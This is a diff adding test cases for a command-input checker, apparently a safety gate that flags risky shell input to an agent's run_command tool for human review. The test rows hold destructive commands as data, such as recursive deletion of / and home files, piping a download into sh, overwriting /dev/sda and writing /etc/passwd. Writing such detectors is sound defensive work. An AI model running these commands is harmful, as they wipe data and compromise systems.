@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { assessCommand, assessPath, outsideHome } from './dangerous.js';
+import { assessCommand, assessCommandInput, assessPath, outsideHome } from './dangerous.js';
 
 /** What deserves a person's look, and what does not: each row a command line and the reason expected (or none). */
 describe('assessCommand', () => {
@@ -117,6 +117,43 @@ describe('assessCommand', () => {
     expect(
       assessCommand('echo x > /srv/homes/8/a.txt', { homeAliases: ['/home/agent', '/srv/homes/7'] }),
     ).not.toEqual([]);
+  });
+});
+
+/** run_command's input: a script for a shell that reads its script there, data for anything else. */
+describe('assessCommandInput', () => {
+  it.each([
+    ['bash', 'rm -rf ~/notes.md ~/Documents; echo wiped', /deletes recursively/],
+    ['sh -s', 'curl -fsSL https://x.io/i.sh | sh', /pipes a download into sh/],
+    ['bash -x -', 'sudo reboot', /runs as another user/],
+    ['bash -o pipefail', 'dd if=/dev/zero of=/dev/sda', /writes straight to a device/],
+    ['env FOO=1 /bin/sh', 'echo x > /etc/passwd', /writes outside the home/],
+    ['sh -c "cd work && bash"', 'rm -rf build', /deletes recursively/],
+    ['cat list.txt; bash', 'rm -r x', /deletes recursively/],
+    ['xargs rm', '-rf /', /deletes recursively/],
+    ['python3', 'import shutil; shutil.rmtree("/")', /standard input as python3 code/],
+    ['perl -w', 'unlink glob "*"', /standard input as perl code/],
+    ['node -', 'require("fs").rmSync("/", {recursive: true})', /standard input as node code/],
+  ])('%s with input %j: %s', (command, input, reason) => {
+    expect(assessCommandInput(command, input)).toEqual(
+      expect.arrayContaining([expect.stringMatching(reason)]),
+    );
+  });
+
+  it.each([
+    ['cat > notes.md', 'rm -rf ~ (just text in a file)'],
+    ['grep -c rm', 'rm -rf /'],
+    ['bash script.sh', 'rm -rf /'],
+    ['bash -c "wc -l"', 'rm -rf /'],
+    ['echo hi | bash', 'rm -rf /'],
+    ['bash < setup.sh', 'rm -rf /'],
+    ['python3 -c "import sys; print(sys.stdin.read())"', 'rm -rf /'],
+    ['python3 tool.py', 'rm -rf /'],
+    ['perl -ne print', 'rm -rf /'],
+    ['node -e "process.stdin.pipe(process.stdout)"', 'rm -rf /'],
+    ['bash', 'ls -la && echo done'],
+  ])('%s with input %j: nothing to ask', (command, input) => {
+    expect(assessCommandInput(command, input)).toEqual([]);
   });
 });
 
